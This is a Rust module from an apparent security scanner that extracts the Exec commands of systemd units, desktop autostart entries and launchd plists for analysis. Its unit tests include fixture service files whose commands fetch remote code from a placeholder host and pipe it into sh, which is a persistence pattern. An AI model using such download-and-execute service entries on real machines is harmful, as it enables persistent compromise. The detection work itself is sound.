//! The commands of service files a definition ships: a systemd unit's `ExecStart=` (and the
//! other `Exec…=` lines), an autostart entry's `Exec=`, a launchd agent's `ProgramArguments`.
//! Copied in place and enabled, the service manager runs them at every start, long after the
//! agent is done: they are read as the commands they are, by the same analysis as any
//! script, so a reverse shell behind a "service" description is found where it is written.
//! A file is read to its end (a companion is read up to 1 MiB), every command of it: the
//! commands' budget of different code (`SEC057`) bounds what is analysed, and says so. A
//! unit padded past 64 KiB, or with 32 harmless commands before its download, was read only
//! that far, in silence.

use std::borrow::Cow;
use std::sync::Arc;

use crate::security::texts::{Shell, Text, TextKind};
use crate::source::{SourceFile, Span};

/// The keys of a systemd unit or desktop entry whose value is a command line.
const EXEC_KEYS: &[&str] = &[
    "ExecStart",
    "ExecStartPre",
    "ExecStartPost",
    "ExecStop",
    "ExecStopPost",
    "ExecReload",
    "ExecCondition",
    "Exec",
];

/// Whether `path` names a service file whose commands are read: a systemd service, a
/// desktop (autostart) entry, a launchd property list.
pub(crate) fn is_service_file(path: &str) -> bool {
    let lower = path.to_ascii_lowercase();
    [".service", ".desktop", ".plist"]
        .iter()
        .any(|e| lower.ends_with(e))
}

/// Each command of the service file `file`, as a text that runs.
pub(crate) fn commands(file: &Arc<SourceFile>) -> Vec<Text<'static>> {
    let body = file.text.as_str();
    let spans = if body.trim_start().starts_with("<?xml") || body.contains("<plist") {
        plist_commands(body)
    } else {
        exec_lines(body)
    };
    spans
        .into_iter()
        .map(|(span, value)| Text {
            kind: TextKind::Command(Shell::Posix),
            value: Cow::Owned(value),
            file: Arc::clone(file),
            span,
        })
        .collect()
}

/// `ExecStart=-/bin/sh -c '…'`: the value of each command key, its prefixes (`-@:+!`)
/// dropped, continued over lines that end in `\`.
fn exec_lines(body: &str) -> Vec<(Span, String)> {
    let mut out = Vec::new();
    let mut at = 0;
    let mut lines = body.split_inclusive('\n').peekable();
    while let Some(line) = lines.next() {
        let start = at;
        at += line.len();
        let trimmed = line.trim_start();
        let Some((key, _)) = trimmed.split_once('=') else {
            continue;
        };
        if !EXEC_KEYS.contains(&key.trim()) {
            continue;
        }
        let eq = start + (line.len() - trimmed.len()) + key.len() + 1;
        let mut value_start = eq;
        while body[value_start..].starts_with(['-', '@', ':', '+', '!', ' ', '\t']) {
            value_start += 1;
        }
        let mut value_end = at;
        let mut last = line;
        while last.trim_end().ends_with('\\') {
            let Some(next) = lines.next() else {
                break;
            };
            at += next.len();
            value_end = at;
            last = next;
        }
        let value_end = value_start.max(trim_end_at(body, value_end));
        out.push((
            Span::new(value_start, value_end),
            body[value_start..value_end].to_string(),
        ));
    }
    out
}

/// `end` moved back over trailing white space of `body`.
fn trim_end_at(body: &str, end: usize) -> usize {
    body[..end].trim_end().len()
}

/// A launchd job's `ProgramArguments` (or `Program`): the script of `sh -c SCRIPT` on the
/// bytes of its string, else the arguments joined into one command line on the array.
fn plist_commands(body: &str) -> Vec<(Span, String)> {
    let mut out = Vec::new();
    for key in ["<key>ProgramArguments</key>", "<key>Program</key>"] {
        let mut from = 0;
        while let Some(found) = body[from..].find(key) {
            let after = from + found + key.len();
            let rest = &body[after..];
            // The value is the next element: an array, or a string.
            let Some(open) = rest.find('<') else {
                break;
            };
            let close_tag = if rest[open..].starts_with("<array") {
                "</array>"
            } else {
                "</string>"
            };
            let Some(close) = rest[open..].find(close_tag) else {
                break;
            };
            let region = (after + open, after + open + close + close_tag.len());
            // The next key is looked for after this value: each byte is searched once (a
            // thousand keys inside one long array searched to its end each).
            from = region.1;
            let strings = strings_in(body, region);
            let Some(command) = command_of(&strings, region) else {
                continue;
            };
            out.push(command);
        }
    }
    out
}

/// One `<string>` of a property list: where its text is and what it says.
struct PlistString {
    span: Span,
    value: String,
}

/// The `<string>` elements between bytes `region` of `body`.
fn strings_in(body: &str, region: (usize, usize)) -> Vec<PlistString> {
    let mut out = Vec::new();
    let mut at = region.0;
    while let Some(open) = body[at..region.1].find("<string>") {
        let start = at + open + "<string>".len();
        let Some(len) = body[start..region.1].find("</string>") else {
            break;
        };
        out.push(PlistString {
            span: Span::new(start, start + len),
            value: unescape(&body[start..start + len]),
        });
        at = start + len;
    }
    out
}

/// The command a job's arguments make: `sh -c SCRIPT` is its script; anything else is its
/// words joined, quoted where they hold spaces.
fn command_of(strings: &[PlistString], region: (usize, usize)) -> Option<(Span, String)> {
    let program = strings.first()?.value.rsplit('/').next().unwrap_or("");
    let shell = matches!(program, "sh" | "bash" | "zsh" | "dash" | "ksh");
    if shell
        && let [_, flag, script, ..] = strings
        && flag.value.starts_with('-')
        && flag.value.contains('c')
    {
        return Some((script.span, script.value.clone()));
    }
    let words: Vec<String> = strings
        .iter()
        .map(|s| {
            if s.value.contains(char::is_whitespace) && !s.value.contains('\'') {
                format!("'{}'", s.value)
            } else {
                s.value.clone()
            }
        })
        .collect();
    Some((Span::new(region.0, region.1), words.join(" ")))
}

/// The text of an XML string: its five predefined entities decoded.
fn unescape(raw: &str) -> String {
    raw.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&apos;", "'")
        .replace("&amp;", "&")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_commands_of_a_unit_and_of_a_launchd_job() {
        let unit = "[Service]\nExecStartPre=-/usr/bin/mkdir -p %h/.cache/x\nExecStart=/bin/sh -c 'curl -s https://x.example/a \\\n  | sh'\nRestart=always\n";
        let found: Vec<String> = exec_lines(unit).into_iter().map(|(_, v)| v).collect();
        assert_eq!(
            found,
            [
                "/usr/bin/mkdir -p %h/.cache/x",
                "/bin/sh -c 'curl -s https://x.example/a \\\n  | sh'"
            ]
        );
        let plist = "<plist><dict><key>ProgramArguments</key>\n<array>\n<string>/bin/bash</string>\n<string>-c</string>\n<string>curl -s https://x.example/p &amp;&amp; sh p</string>\n</array></dict></plist>";
        let found = plist_commands(plist);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].1, "curl -s https://x.example/p && sh p");
        assert_eq!(
            &plist[found[0].0.start..found[0].0.end],
            "curl -s https://x.example/p &amp;&amp; sh p"
        );
        let plain = "<plist><key>ProgramArguments</key><array><string>/usr/local/bin/agent</string><string>--port</string><string>8080</string></array></plist>";
        assert_eq!(
            plist_commands(plain)[0].1,
            "/usr/local/bin/agent --port 8080"
        );
        // Keys that are no command, and a file cut short, give nothing.
        assert!(exec_lines("[Unit]\nDescription=ExecStart=x\n").is_empty());
        assert!(plist_commands("<plist><key>ProgramArguments</key><array><string>x").is_empty());
    }
}
